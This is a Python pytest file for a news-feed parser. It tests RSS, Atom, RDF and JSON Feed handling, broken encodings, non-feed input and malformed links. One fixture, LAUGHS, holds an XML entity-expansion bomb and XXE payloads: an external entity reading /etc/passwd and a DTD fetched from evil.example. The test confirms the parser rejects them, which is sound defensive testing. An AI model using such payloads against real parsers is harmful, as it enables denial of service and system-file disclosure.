"""Feeds of all kinds, broken and hostile ones."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claims.documents.feeds import Entry, read_feed
from claims.errors import DocumentError

HERE = "https://news.example/feeds/all.xml"

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>News</title>
<link>https://news.example/</link>
<item><title>A &amp; B&nbsp;C</title><link>https://news.example/a?x=1&amp;y=2#top</link>
<pubDate>Mon, 02 Sep 2024 23:30:00 -0500</pubDate></item>
<item><title>B</title><link> /b </link><dc:date>2024-09-03</dc:date></item>
<item><title>the same again</title><link>https://news.example/b</link></item>
<item><title>by its guid</title><guid isPermaLink="true">https://news.example/c</guid></item>
<item><title>no page</title><link>mailto:desk@news.example</link></item>
<item><title>nothing</title></item>
</channel></rss>"""

ATOM = """<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://news.example/">
<title>News</title><id>urn:x</id><updated>2024-09-02T10:00:00Z</updated>
<entry><title>A</title><id>urn:a</id><link rel="self" href="/a.atom"/>
<link rel="alternate" type="text/html" href="a"/><published>2024-09-02T23:30:00+09:00</published>
<updated>2024-09-05T10:00:00Z</updated></entry>
<entry><title>B</title><id>urn:b</id><link href="https://news.example/b"/>
<updated>2024-09-03T10:00:00Z</updated></entry></feed>"""

RDF = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://news.example/">
<title>News</title><link>https://news.example/</link></channel>
<item rdf:about="https://news.example/a"><title>A</title><link>https://news.example/a</link>
<dc:date>2024-09-02T08:00:00Z</dc:date></item></rdf:RDF>"""

JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "News",
    "items": [
        {"id": "1", "url": "https://news.example/a", "date_published": "2024-09-02T08:00:00+02:00"},
        {"id": "2", "external_url": "https://other.example/b"},
        {"id": "3", "url": 7},
        "no item",
    ],
}


def read(feed: str | bytes, **options: int) -> list[tuple[str, str | None]]:
    data = feed.encode() if isinstance(feed, str) else feed
    return [(one.url, one.published) for one in read_feed(data, HERE, **options)]


def test_rss() -> None:
    assert read(RSS) == [
        ("https://news.example/a?x=1&y=2", "2024-09-02T23:30:00"),  # the publisher's day
        ("https://news.example/b", "2024-09-03T00:00:00"),
        ("https://news.example/c", None),
    ]
    assert len(read(RSS, limit=2)) == 2


def test_atom_rdf_and_json() -> None:
    assert read(ATOM) == [
        ("https://news.example/a", "2024-09-02T23:30:00"),
        ("https://news.example/b", "2024-09-03T10:00:00"),
    ]
    assert read(RDF) == [("https://news.example/a", "2024-09-02T08:00:00")]
    assert read(json.dumps(JSON)) == [
        ("https://news.example/a", "2024-09-02T08:00:00"),
        ("https://other.example/b", None),
    ]


def test_the_day_is_metadata_of_the_page() -> None:
    fact = Entry("https://news.example/a", "2024-09-02T08:00:00").fact
    assert fact is not None and (fact.basis, str(fact.day)) == ("feed", "2024-09-02")
    assert Entry("https://news.example/a").fact is None


@pytest.mark.parametrize(
    "feed",
    [
        RSS[:420],  # cut off after its first item
        RSS.replace("&amp; B", "& B <b>"),  # not well-formed
        RSS.replace('"UTF-8"', '"iso-8859-1"').replace("News", "Grüße"),
        "\n\n" + RSS,
        "\ufeff" + RSS,
    ],
)
def test_broken_feeds_give_what_they_have(feed: str) -> None:
    assert read(feed)[0] == ("https://news.example/a?x=1&y=2", "2024-09-02T23:30:00")


def test_encodings() -> None:
    greeting = RSS.replace("News", "Grüße")
    assert read(greeting.replace("UTF-8", "iso-8859-1").encode("latin-1")) == read(RSS)
    assert read(greeting.replace("UTF-8", "UTF-16").encode("utf-16")) == read(RSS)
    assert read(greeting.encode("latin-1")) == read(RSS)  # declared wrongly


@pytest.mark.parametrize(
    "data",
    [
        b"<html><body><p>A page</p></body></html>",
        b"plain words",
        b'{"items": []}',
        b'{"version": "https://jsonfeed.org/version/1", "items": {}}',
        b"{" + b'"a":{' * 10_000,
        b"",
        b"\x89PNG\r\n",
    ],
)
def test_what_is_no_feed(data: bytes) -> None:
    with pytest.raises(DocumentError):
        read(data)


def test_a_page_that_names_its_feeds() -> None:
    page = (
        '<!doctype html><html><head><link rel="stylesheet" href="/x.css">'
        '<link rel="alternate" type="application/rss+xml" href="/news.rss"></head><body>A</body>'
    )
    with pytest.raises(DocumentError, match="is no feed") as error:
        read(page)
    assert error.value.repair == "feeds that this page names: https://news.example/news.rss"


def test_addresses_that_are_written_carelessly() -> None:
    links = ("\n  /a\n  b c\n", "http://[::1", "https://news.example/d")
    items = "".join(f"<item><link>{link}</link></item>" for link in links)
    assert [url for url, _ in read(f'<rss version="2.0"><channel>{items}</channel></rss>')] == [
        "https://news.example/a%20%20b%20c",
        "https://news.example/d",
    ]


LAUGHS = """<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE rss [<!ENTITY a "{a}">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">
<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>
<rss version="2.0"><channel><item><title>&x;</title><link>https://news.example/{refs}</link></item>
</channel></rss>"""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-7", "iso-8859-1"])
def test_entities_are_harmless(encoding: str) -> None:
    bomb = LAUGHS.format(encoding=encoding, a="ha" * 5000, refs="&b;" * 20_000)
    start = time.monotonic()
    with pytest.raises(DocumentError, match="declares entities"):
        read(bomb.encode(encoding))
    assert time.monotonic() - start < 5


@given(st.one_of(st.binary(max_size=300), st.text(max_size=200).map(lambda t: RSS[:200] + t)))
def test_any_bytes_give_entries_or_an_error(feed: bytes | str) -> None:
    try:
        found = read(feed)
    except DocumentError:
        return
    assert all(url.startswith(("http://", "https://")) for url, _ in found)
